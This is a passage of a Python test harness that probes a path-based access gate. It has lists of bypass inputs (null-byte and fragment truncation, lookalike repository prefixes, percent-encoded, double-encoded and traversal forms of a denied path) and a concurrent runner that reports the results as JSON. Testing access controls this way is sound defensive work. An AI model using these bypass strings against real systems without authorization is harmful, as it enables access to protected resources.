rooted("%00 and #", "/repos/x%00/../y", "/denied%00/repos/x",
       "/denied#/repos/x", "/repos/x/#/../y")
rooted("a name that only begins as an allowed one", "/repos/x-evil",
       "/repos/xx", "/repos/x.evil", "/Repos/x/y")


@attempt(PATH, "a denied path, encoded")
def encoded(g):
    for path in ("/%64enied/", "/denied%2f", "/x/../denied/", "/%2564enied/..;"
                 "/denied/", "/denied//", "/./denied/"):
        yield from g.through(
            g.request(f"{path}{g.mark}"))


# -- what runs them ------------------------------------------------------------

def run_one(kind, number):
    a = ATTEMPTS[number]
    if kind in a.no:
        return {"n": number, "no": a.no[kind]}
    if kind == "free" and a.free:
        return {"n": number, "no": a.free}
    seen = []
    try:
        for end in a.function(Gate(kind, number)):
            if end and end not in seen:
                seen.append(end)
    except Refused as end:
        seen.append(str(end))
    except Exception as error:            # ours, and no result
        return {"n": number, "error": f"{type(error).__name__}: {error}"}
    return {"n": number, "seen": seen}


def try_all(kind):
    with concurrent.futures.ThreadPoolExecutor(JOBS) as pool:
        for found in pool.map(lambda n: run_one(kind, n),
                              range(len(ATTEMPTS))):
            print(json.dumps(found), flush=True)


if __name__ == "__main__":
    try_all(sys.argv[1])
